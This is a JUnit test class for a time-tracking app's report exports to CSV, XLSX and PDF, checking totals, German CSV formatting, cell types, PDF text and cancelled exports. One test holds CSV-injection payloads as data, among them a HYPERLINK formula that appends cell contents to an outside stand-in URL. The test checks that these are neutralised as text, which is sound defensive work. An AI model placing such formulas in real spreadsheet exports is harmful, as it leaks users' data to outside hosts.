package org.fachwerk.timelog.core.tests;

import static org.fachwerk.testing.BookingBuilder.booking;
import static org.fachwerk.testing.PersonBuilder.person;
import static org.fachwerk.testing.ProjectBuilder.project;
import static org.fachwerk.testing.WorkItemBuilder.task;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;
import java.util.Locale;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.eclipse.core.runtime.NullProgressMonitor;
import org.eclipse.core.runtime.OperationCanceledException;
import org.fachwerk.model.Department;
import org.fachwerk.model.FachwerkFactory;
import org.fachwerk.model.FederalState;
import org.fachwerk.model.Person;
import org.fachwerk.model.Project;
import org.fachwerk.model.WorkItem;
import org.fachwerk.model.WorkLocation;
import org.fachwerk.timelog.core.Report;
import org.fachwerk.timelog.core.ReportExport;
import org.fachwerk.timelog.core.ReportExport.Format;
import org.fachwerk.timelog.core.Reports;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The reports, and their exports read back: CSV as text, XLSX with POI, PDF with PDFBox. */
class ReportsTest {

    private static final FachwerkFactory FACTORY = FachwerkFactory.eINSTANCE;
    private static final YearMonth FEBRUARY = YearMonth.of(2027, 2);

    private final Department department = FACTORY.createDepartment();
    private final Person bernd = person("Schulz").firstName("Bernd").federalState(FederalState.BY).in(department);
    private final Project project = project("IT-7", "Neue Telefonanlage; Stufe \"2\"").in(department);
    private final WorkItem task = task("Verkabelung pr\u00fcfen").in(project);

    @TempDir
    Path directory;

    ReportsTest() {
        book(LocalDate.of(2027, 2, 8), "08:00", "12:00", 0, WorkLocation.OFFICE, task);
        book(LocalDate.of(2027, 2, 8), "12:30", "16:00", 0, WorkLocation.OFFICE, null);
        book(LocalDate.of(2027, 2, 9), "07:00", "14:30", 0, WorkLocation.HOME, task); // 7:30 without a break
        book(LocalDate.of(2027, 3, 1), "08:00", "10:00", 0, WorkLocation.MOBILE, task); // another month
    }

    private void book(LocalDate date, String start, String end, int breakMinutes, WorkLocation location,
            WorkItem on) {
        booking(bernd, date, start, end).breakMinutes(breakMinutes).at(location).on(on)
                .comment(on == null ? "Besprechung \u201eAkten\u201c, Raum 2" : null).in(department);
    }

    @Test
    void theReportsAddUp() {
        Report timesheet = Reports.timesheet(bernd, FEBRUARY, Locale.ENGLISH);
        assertEquals("Timesheet Bernd Schulz, February 2027", timesheet.title());
        assertEquals(3, timesheet.rows().size());
        assertEquals(List.of(LocalDate.of(2027, 2, 8), "Mon", "08:00", "12:00", 0, 4.0, "Verkabelung pr\u00fcfen",
                "IT-7", "Office", "", ""), timesheet.rows().get(0));

        Report perProject = Reports.hoursPerProject(department, FEBRUARY.atDay(1), FEBRUARY.atEndOfMonth());
        assertEquals(List.of("IT-7", "Neue Telefonanlage; Stufe \"2\"", 11.5, 2L), perProject.rows().get(0));
        assertEquals(List.of("", "(no project)", 3.5, 1L), perProject.rows().get(1));

        Report byLocation = Reports.hoursByLocation(department, 2027, Locale.ENGLISH);
        assertEquals(12, byLocation.rows().size());
        assertEquals(List.of("February 2027", 7.5, 7.5, 0.0, 15.0, 50.0), byLocation.rows().get(1));
        assertEquals(List.of("March 2027", 0.0, 0.0, 2.0, 2.0, 0.0), byLocation.rows().get(2));

        Report compliance = Reports.compliance(bernd, FEBRUARY);
        assertEquals(List.of("Breaks", "Work without a break"), compliance.rows().stream().map(r -> r.get(1))
                .toList());
        assertEquals(LocalDate.of(2027, 2, 9), compliance.rows().get(0).get(0));
    }

    @Test
    void csvKeepsSeparatorsQuotesAndUmlautsForGermanSpreadsheets() throws Exception {
        Path file = directory.resolve("projekte.csv");
        ReportExport.write(Reports.hoursPerProject(department, FEBRUARY.atDay(1), FEBRUARY.atEndOfMonth()),
                Format.CSV, file, Locale.GERMANY, new NullProgressMonitor());
        List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
        assertEquals("\uFEFFKey;Project;Hours;Bookings", lines.get(0));
        assertEquals("IT-7;\"Neue Telefonanlage; Stufe \"\"2\"\"\";11,5;2", lines.get(1));
        assertEquals(";(no project);3,5;1", lines.get(2));
    }

    @Test
    void commentsThatASpreadsheetWouldRunAsFormulasAreWrittenAsTextAndTheFilesAreTheOwnersOnly() throws Exception {
        List<String> formulas = List.of("=HYPERLINK(\"http://example.org/?\"&A1;\"Details\")", "+49 30 1234", "-2+3",
                "@SUMME(A1:A9)", "\tTab", "\rZeile");
        for (String comment : formulas) {
            booking(bernd, LocalDate.of(2027, 2, 10), "08:00", "09:00").on(task).comment(comment).in(department);
        }
        Report timesheet = Reports.timesheet(bernd, FEBRUARY, Locale.GERMAN);
        Path csv = directory.resolve("stundenzettel.csv");
        ReportExport.write(timesheet, Format.CSV, csv, Locale.GERMANY, new NullProgressMonitor());
        String written = Files.readString(csv, StandardCharsets.UTF_8);
        assertTrue(written.contains(";\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1;\"\"Details\"\")\""), written);
        for (String comment : List.of("'+49 30 1234", "'-2+3", "'@SUMME(A1:A9)", "'\tTab", "\"'\rZeile\"")) {
            assertTrue(written.contains(";" + comment + ";") || written.contains(";" + comment + "\r\n"), comment);
        }
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(csv)));

        Path xlsx = directory.resolve("stundenzettel.xlsx");
        ReportExport.write(timesheet, Format.XLSX, xlsx, Locale.GERMANY, new NullProgressMonitor());
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(xlsx)));
        try (InputStream in = Files.newInputStream(xlsx); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            Sheet sheet = workbook.getSheetAt(0);
            int column = timesheet.columns().size() - 2; // the comment
            List<String> quoted = new java.util.ArrayList<>();
            for (int row = 3; row < 3 + timesheet.rows().size(); row++) {
                org.apache.poi.ss.usermodel.Cell cell = sheet.getRow(row).getCell(column);
                assertEquals(CellType.STRING, cell.getCellType());
                if (cell.getCellStyle().getQuotePrefixed()) {
                    quoted.add(cell.getStringCellValue());
                }
            }
            assertEquals(formulas, quoted, "exactly the formula-like comments are quote-prefixed text");
        }
    }

    @Test
    void xlsxReadsBackWithNumbersAndDates() throws Exception {
        Path file = directory.resolve("stundenzettel.xlsx");
        Report timesheet = Reports.timesheet(bernd, FEBRUARY, Locale.ENGLISH);
        ReportExport.write(timesheet, Format.XLSX, file, Locale.GERMANY, new NullProgressMonitor());
        try (InputStream in = Files.newInputStream(file); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            Sheet sheet = workbook.getSheetAt(0);
            assertEquals(timesheet.title(), sheet.getRow(0).getCell(0).getStringCellValue());
            for (int i = 0; i < timesheet.columns().size(); i++) {
                assertEquals(timesheet.columns().get(i), sheet.getRow(2).getCell(i).getStringCellValue());
            }
            for (int row = 0; row < timesheet.rows().size(); row++) {
                List<Object> expected = timesheet.rows().get(row);
                assertEquals(expected.get(0), sheet.getRow(3 + row).getCell(0).getLocalDateTimeCellValue()
                        .toLocalDate());
                assertEquals(CellType.NUMERIC, sheet.getRow(3 + row).getCell(5).getCellType());
                assertEquals((Double) expected.get(5), sheet.getRow(3 + row).getCell(5).getNumericCellValue(), 1e-9);
                assertEquals(expected.get(6), sheet.getRow(3 + row).getCell(6).getStringCellValue());
            }
            assertEquals("Total", sheet.getRow(6).getCell(0).getStringCellValue());
            assertEquals(15.0, sheet.getRow(6).getCell(5).getNumericCellValue(), 1e-9);
        }
    }

    @Test
    void pdfHoldsTheTitleRowsAndPageNumbers() throws Exception {
        Path file = directory.resolve("verstoesse.pdf");
        Report compliance = Reports.compliance(bernd, FEBRUARY);
        ReportExport.write(compliance, Format.PDF, file, Locale.GERMANY, new NullProgressMonitor());
        try (PDDocument document = Loader.loadPDF(file.toFile())) {
            String text = new PDFTextStripper().getText(document);
            assertTrue(text.contains(compliance.title()), text);
            assertTrue(text.contains("Work without a break"), text);
            assertTrue(text.contains("Page 1 of 1"), text);
        }
    }

    @Test
    void aCancelledExportLeavesNoFile() throws Exception {
        Path file = directory.resolve("abgebrochen.xlsx");
        NullProgressMonitor cancelled = new NullProgressMonitor();
        cancelled.setCanceled(true);
        assertThrows(OperationCanceledException.class, () -> ReportExport.write(Reports.timesheet(bernd, FEBRUARY,
                Locale.GERMAN), Format.XLSX, file, Locale.GERMANY, cancelled));
        assertFalse(Files.exists(file));
        try (var left = Files.list(directory)) {
            assertEquals(0, left.count(), "no temporary file either");
        }
    }
}
